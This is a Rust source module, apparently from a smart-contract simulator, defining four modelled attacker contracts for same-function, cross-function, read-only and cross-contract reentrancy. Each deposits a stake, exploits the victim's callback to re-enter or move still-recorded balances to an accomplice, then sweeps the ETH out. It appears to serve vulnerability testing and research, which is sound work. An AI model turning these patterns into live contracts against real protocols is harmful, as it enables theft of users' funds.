//! Attacker contracts. Each is driven by an EOA calling `attack` with the
//! stake as value and later `withdraw` to sweep its ETH.

use serde::{Deserialize, Serialize};

use super::spec::BehaviorSpec;
use super::storage::Scalar;
use super::unknown;
use crate::mcvm::{require, Address, CallKind, Ctx, Halt, Word};

pub const REASON_NO_STAKE: &str = "Send the required attack amount";
pub const REASON_SWEEP_FAILED: &str = "Failed to withdraw Ether";

const DONE: Scalar = Scalar::new("done", 0);
const STAKE: Scalar = Scalar::new("stake", 1);
const REENTRIES: Scalar = Scalar::new("reentries", 2);

/// When the same-function attacker stops re-entering.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ReentryBound {
    /// Re-enter while the victim holds more than this many wei.
    Threshold(Word),
    /// Re-enter this many times.
    Count(u32),
}

fn call(ctx: &mut Ctx, target: Address, function: &str, args: Vec<Word>, value: Word) -> Result<Vec<Word>, Halt> {
    ctx.call(CallKind::RegularCall, target, function, args, value, None)?.bubble()
}

fn take_stake(ctx: &mut Ctx) -> Result<Word, Halt> {
    let stake = ctx.value();
    require(!stake.is_zero(), REASON_NO_STAKE)?;
    STAKE.write(ctx, stake)?;
    Ok(stake)
}

fn sweep(ctx: &mut Ctx) -> Result<Vec<Word>, Halt> {
    let all = ctx.self_balance();
    let to = ctx.caller();
    ctx.send(to, all)?.require_success(REASON_SWEEP_FAILED)?;
    Ok(vec![all])
}

/// First time through, flips the `done` flag and returns true.
fn once(ctx: &mut Ctx) -> Result<bool, Halt> {
    if DONE.read(ctx)?.is_zero() {
        DONE.write(ctx, Word::one())?;
        Ok(true)
    } else {
        Ok(false)
    }
}

fn attacker_spec(template: &str, hook: &[&str]) -> BehaviorSpec {
    BehaviorSpec::new(template)
        .function("attack", &["stake"], &["stake"])
        .function("receive", hook, hook)
        .function("onRedeem", hook, hook)
        .function("withdraw", &[], &[])
}

/// Deposits, withdraws, and re-enters `withdraw` from its receive hook.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SfrAttacker {
    pub victim: Address,
    pub bound: ReentryBound,
}

impl SfrAttacker {
    pub const TEMPLATE: &'static str = "sfr_attacker";

    pub fn spec() -> BehaviorSpec {
        attacker_spec(Self::TEMPLATE, &["reentries"])
    }

    pub fn execute(&self, ctx: &mut Ctx, function: &str, _args: &[Word]) -> Result<Vec<Word>, Halt> {
        match function {
            "attack" => {
                let stake = take_stake(ctx)?;
                call(ctx, self.victim, "deposit", vec![], stake)?;
                call(ctx, self.victim, "withdraw", vec![], Word::zero())?;
                Ok(vec![])
            }
            "receive" => {
                let again = match self.bound {
                    ReentryBound::Threshold(t) => ctx.balance(self.victim) > t,
                    ReentryBound::Count(n) => {
                        let done = REENTRIES.read(ctx)?;
                        if done < Word::from(n) {
                            REENTRIES.write(ctx, done + 1)?;
                            true
                        } else {
                            false
                        }
                    }
                };
                if again {
                    call(ctx, self.victim, "withdraw", vec![], Word::zero())?;
                }
                Ok(vec![])
            }
            "withdraw" => sweep(ctx),
            other => Err(unknown(other)),
        }
    }
}

/// On the first payout from the victim, moves its still-recorded stake to an
/// accomplice through the victim's `transfer`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CfrAttacker {
    pub victim: Address,
    pub accomplice: Address,
}

impl CfrAttacker {
    pub const TEMPLATE: &'static str = "cfr_attacker";

    pub fn spec() -> BehaviorSpec {
        attacker_spec(Self::TEMPLATE, &["done", "stake"])
    }

    pub fn execute(&self, ctx: &mut Ctx, function: &str, _args: &[Word]) -> Result<Vec<Word>, Halt> {
        match function {
            "attack" => {
                let stake = take_stake(ctx)?;
                call(ctx, self.victim, "deposit", vec![], stake)?;
                call(ctx, self.victim, "withdraw", vec![], Word::zero())?;
                Ok(vec![])
            }
            "receive" => {
                if ctx.caller() == self.victim && once(ctx)? {
                    let stake = STAKE.read(ctx)?;
                    call(ctx, self.victim, "transfer", vec![self.accomplice.to_word(), stake], Word::zero())?;
                }
                Ok(vec![])
            }
            "withdraw" => sweep(ctx),
            other => Err(unknown(other)),
        }
    }
}

/// Collects a reward whose size is computed from the victim's mid-update view.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RorAttacker {
    pub vault: Address,
    pub pool: Address,
    /// The contract whose callback opens the window.
    pub trigger: Address,
}

impl RorAttacker {
    pub const TEMPLATE: &'static str = "ror_attacker";

    pub fn spec() -> BehaviorSpec {
        attacker_spec(Self::TEMPLATE, &["done"])
    }

    pub fn execute(&self, ctx: &mut Ctx, function: &str, _args: &[Word]) -> Result<Vec<Word>, Halt> {
        match function {
            "attack" => {
                let stake = take_stake(ctx)?;
                call(ctx, self.vault, "deposit", vec![], stake)?;
                call(ctx, self.vault, "withdraw", vec![], Word::zero())?;
                Ok(vec![])
            }
            "receive" | "onRedeem" => {
                if ctx.caller() == self.trigger && once(ctx)? {
                    call(ctx, self.pool, "getReward", vec![], Word::zero())?;
                }
                Ok(vec![])
            }
            "withdraw" => sweep(ctx),
            other => Err(unknown(other)),
        }
    }
}

/// Redeems vault shares and, from the token's redeem callback, moves the
/// not-yet-burned shares to an accomplice.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CcrAttacker {
    pub vault: Address,
    pub token: Address,
    pub accomplice: Address,
}

impl CcrAttacker {
    pub const TEMPLATE: &'static str = "ccr_attacker";

    pub fn spec() -> BehaviorSpec {
        attacker_spec(Self::TEMPLATE, &["done", "stake"])
    }

    pub fn execute(&self, ctx: &mut Ctx, function: &str, _args: &[Word]) -> Result<Vec<Word>, Halt> {
        match function {
            "attack" => {
                let stake = take_stake(ctx)?;
                call(ctx, self.vault, "deposit", vec![], stake)?;
                call(ctx, self.vault, "withdraw", vec![], Word::zero())?;
                Ok(vec![])
            }
            "receive" | "onRedeem" => {
                if ctx.caller() == self.token && once(ctx)? {
                    let stake = STAKE.read(ctx)?;
                    call(ctx, self.token, "transfer", vec![self.accomplice.to_word(), stake], Word::zero())?;
                }
                Ok(vec![])
            }
            "withdraw" => sweep(ctx),
            other => Err(unknown(other)),
        }
    }
}
